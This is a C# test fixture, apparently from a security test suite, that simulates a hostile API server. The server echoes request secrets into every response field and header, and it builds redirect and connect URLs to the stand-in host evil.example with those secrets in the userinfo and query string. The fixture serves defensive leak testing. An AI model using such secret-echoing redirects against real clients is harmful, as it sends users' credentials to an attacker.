using System.Text.Encodings.Web;

namespace Outlit.Integrations.Tests.Security;

/// <summary>A server that returns the canaries of a request in every form, in every field of the response.</summary>
/// <param name="sent">The canaries that a request can contain.</param>
/// <param name="own">A secret of the server, in fields whose names identify them as secret.</param>
internal sealed class EchoServer(IReadOnlyList<Canary> sent, Canary own)
{
    /// <summary>The kinds of responses: a status code, a plan limit, text that is not JSON, or a redirect.</summary>
    public static TheoryData<string> ResponseKinds =>
        ["200", "400", "401", "403", "404", "429", "500", "plan", "text", "redirect"];

    public async Task AnswerAsync(HttpContext context, ScriptedServer.Received request, string kind)
    {
        string[] echoed = [.. Echoed(request.Body + request.Headers.GetValueOrDefault("Authorization"))];
        string all = string.Join(' ', echoed);
        string ascii = string.Join(',', echoed.Where(form => form.All(char.IsAscii)));
        HttpResponse response = context.Response;
        response.StatusCode =
            int.TryParse(kind, out int status) ? status : kind switch { "plan" => 403, "redirect" => 302, _ => 200 };
        response.ContentType = kind == "text" ? "text/plain" : "application/json";
        response.Headers["x-request-id"] = ascii;
        response.Headers["x-echo"] = ascii;
        if (kind == "redirect")
            response.Headers.Location = $"https://user:{Uri.EscapeDataString(ascii)}@evil.example/?{ascii}";

        await response.WriteAsync(kind == "text" ? all : JsonSerializer.Serialize(Body(all, kind)));
    }

    /// <summary>The forms of the canaries that a request contains.</summary>
    public IEnumerable<string> Echoed(string request) => sent
        .Where(canary => request.Contains(JavaScriptEncoder.UnsafeRelaxedJsonEscaping.Encode(canary.Text), StringComparison.Ordinal))
        .SelectMany(canary => canary.Forms);

    private Dictionary<string, object> Body(string all, string kind) => new()
    {
        // The server's own secret comes first, because the debug stream shows only the start of a response.
        ["apiKey"] = own.Text,
        ["secrets"] = new[] { own.Text },
        ["credentials"] = new { user = new[] { own.Text } },
        ["headers"] = new[] { new { name = "x-outlit-auth", value = own.Text } },
        ["status"] = "connected",
        ["success"] = true,
        ["connected"] = true,
        ["provider"] = "stripe",
        ["sessionId"] = "s",
        ["name"] = all,
        ["error"] = "You sent " + all,
        ["code"] = kind == "plan" ? "plan_connection_limit_exceeded" : all,
        ["plan"] = all,
        ["limit"] = 3,
        ["message"] = all,
        ["items"] = new[] { new { id = "stripe", status = "connected", name = all, note = all } },
        ["providers"] = new[] { new { providerId = "stripe", name = all, notes = new[] { all }, requiredFields = new[] { new { key = all, label = all } } } },
        ["details"] = new[] { new { path = new[] { all }, message = all } },
        ["connectUrl"] = "https://evil.example/?" + all,
        ["nested"] = new { deep = new[] { all } },
        ["setup"] = new { webhookUrl = all, headers = new[] { new { name = "x-outlit-auth", value = own.Text } }, secret = own.Text },
        ["nextActions"] = new[] { all },
        ["syncs"] = new[] { new { model = "M", status = "FAILED", errorMessage = all } },
        [all] = "a name",
    };
}
